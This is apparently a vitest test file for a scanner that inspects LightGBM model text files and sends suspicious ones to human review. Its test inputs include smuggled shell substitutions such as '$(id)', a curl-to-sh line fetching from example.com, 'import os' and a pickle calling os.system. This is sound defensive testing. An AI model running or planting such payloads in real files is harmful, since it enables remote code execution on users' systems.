// SPDX-License-Identifier: Apache-2.0
import { expect, test } from 'vitest';
import { factsOf, judged, rulesOf } from './judged.ts';
import { callPickle, raw } from './pickle-bytes.ts';

const TREE = `num_leaves=2
num_cat=0
split_feature=0
threshold=1.0000000180025095e-35
decision_type=2
left_child=-1
right_child=-2
leaf_value=-0.5 0.5
is_linear=0
shrinkage=0.1


`;

interface Parts {
  readonly header?: string;
  readonly names?: string;
  readonly tree?: string;
  readonly sizes?: number;
  readonly tail?: string;
}

function model(parts: Parts = {}): string {
  const { header = 'objective=binary sigmoid:1', names = 'a b', tree = `Tree=0\n${TREE}`, tail = '' } = parts;
  const head = `tree\nversion=v4\nnum_class=1\nlabel_index=0\nmax_feature_idx=1\n${header}\nfeature_names=${names}`;
  const infos = `feature_infos=[0.5:1e+300] -1:0:12\ntree_sizes=${parts.sizes ?? tree.length}`;
  return `${head}\n${infos}\n\n${tree}end of trees\n\nfeature_importances:\n${names.split(' ')[0]}=1\n${tail}`;
}

const PARAMETERS = '\nparameters:\n[boosting: gbdt]\n[data: /home/me/train data.csv]\n[valid: ]\n\nend of parameters\n';

test.each<[string, string]>([
  ['a model', model()],
  ['one with parameters and categories', model({ tail: `${PARAMETERS}\npandas_categorical:[["x", "y"], [1, NaN]]\n` })],
  ['one without categories', model({ tail: `${PARAMETERS}\npandas_categorical:null` })],
  ['one with names that are not ASCII', model({ names: 'na\u00efve=1 b' })],
  ['a forest without an objective', model({ header: 'average_output' })],
])('%s passes under every name that people give it', async (_what, text) => {
  for (const name of ['model.txt', 'model.model', 'model.bin', 'model.lgb', 'model'])
    expect(await judged(text, name)).toEqual({ format: 'lightgbm', verdict: 'pass', findings: [] });
});

test.each<[string, string, string]>([
  ['a line that nobody writes', model({ header: 'import os' }), 'lightgbm-malformed'],
  ['a command among the numbers', model({ tree: 'Tree=0\nleaf_value=1 $(id)\n\n\n' }), 'lightgbm-malformed'],
  [
    'sizes that do not fit its trees',
    model({ tree: `Tree=0\n${TREE}Tree=1\n${TREE}`, sizes: 9 }),
    'lightgbm-malformed',
  ],
  ['more trees than sizes', model({ tree: `Tree=0\n${TREE}Tree=1\n${TREE}` }), 'lightgbm-malformed'],
  ['an importance of no feature', model({ tail: 'eval=1\n' }), 'lightgbm-malformed'],
  ['parameters that do not end', model({ tail: '\nparameters:\n[a: b]\n' }), 'lightgbm-malformed'],
  ['text behind it', model({ tail: 'pandas_categorical:null\nmore\n' }), 'lightgbm-malformed'],
  ['categories that are no JSON', model({ tail: 'pandas_categorical:[exec()]\n' }), 'lightgbm-malformed'],
  ['an objective that no list knows', model({ header: 'objective=mine' }), 'lightgbm-objective'],
  ['a parser of its own', model({ tail: '\nparser:\n{"className": "x"}\n\nend of parser\n' }), 'lightgbm-parser'],
])('a model with %s needs a person', async (_what, text, rule) => {
  expect(await rulesOf(text, 'model.txt')).toEqual([rule]);
  expect((await judged(text, 'model.txt')).verdict).toBe('review');
});

test('a pickle behind a model is seen', async () => {
  expect((await judged(raw(model(), callPickle('os', 'system')), 'model.txt')).verdict).not.toBe('pass');
});

test('a model that is also a script is read as one', async () => {
  const text = model({ names: 'a $(curl\thttp://example.com/x|sh)' });
  expect((await judged(text, 'model.sh')).format).toBe('text');
});

test('a model under the name of code is a mismatch', async () => {
  expect(await rulesOf(model(), 'model.py')).toEqual(['extension-mismatch']);
});

test('the facts of a model say its objective', async () => {
  expect(await factsOf(Buffer.from(model()))).toEqual({
    format: 'lightgbm',
    size: model().length,
    extractors: { lightgbm: expect.any(Number) },
    problems: [],
    uses: [{ scheme: 'lightgbm-objective', name: 'binary', at: 'the header' }],
  });
});
